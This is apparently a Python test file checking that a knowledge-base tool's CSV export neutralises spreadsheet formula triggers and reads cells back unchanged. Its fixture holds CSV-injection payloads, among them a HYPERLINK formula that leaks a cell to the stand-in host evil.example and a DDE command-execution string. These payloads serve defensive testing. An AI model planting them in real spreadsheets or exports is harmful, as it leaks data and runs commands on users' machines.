"""CSV exports never carry a formula; the importer reads the neutralised cells back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from kb.csv_cells import TRIGGERS, neutralise, restore
from kb.export import to_csv
from kb.sheet import SECTIONS, Sheet
from kb.survey_csv import read_csv

HOSTILE = Sheet(
    id="fiche-piegee",
    title='=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")',
    organisations=["+33 1 23 45 67 89", "@SUM(1+1)*cmd|' /C calc'!A0", "'=déjà cité"],
    territory="-2 % de chômage",
    sections={
        **dict.fromkeys(SECTIONS, ""),
        "context": "- un point de liste\n- un autre",
        "actions": "=1+1 dans le texte",
        "advice": "''+ deux apostrophes d'abord",
    },
)


def test_exported_cells_are_never_formulas_and_read_back_unchanged(tmp_path: Path) -> None:
    text = to_csv([HOSTILE])
    rows = list(csv.reader(io.StringIO(text)))
    assert all(not cell.startswith(TRIGGERS) for row in rows for cell in row)
    assert "'=HYPERLINK" in text and "'- un point" in text
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    report = read_csv(path)
    assert not report.errors, report.errors
    back = report.rows[0].sheet
    assert (back.title, back.organisations, back.territory) == (
        HOSTILE.title,
        HOSTILE.organisations,
        HOSTILE.territory,
    )
    assert back.sections == HOSTILE.sections
    assert to_csv([back]) == text  # CSV -> CSV is lossless


@given(st.text())
def test_neutralising_is_reversible_for_any_text(cell: str) -> None:
    written = neutralise(cell)
    assert not written.startswith(TRIGGERS)
    assert restore(written) == cell
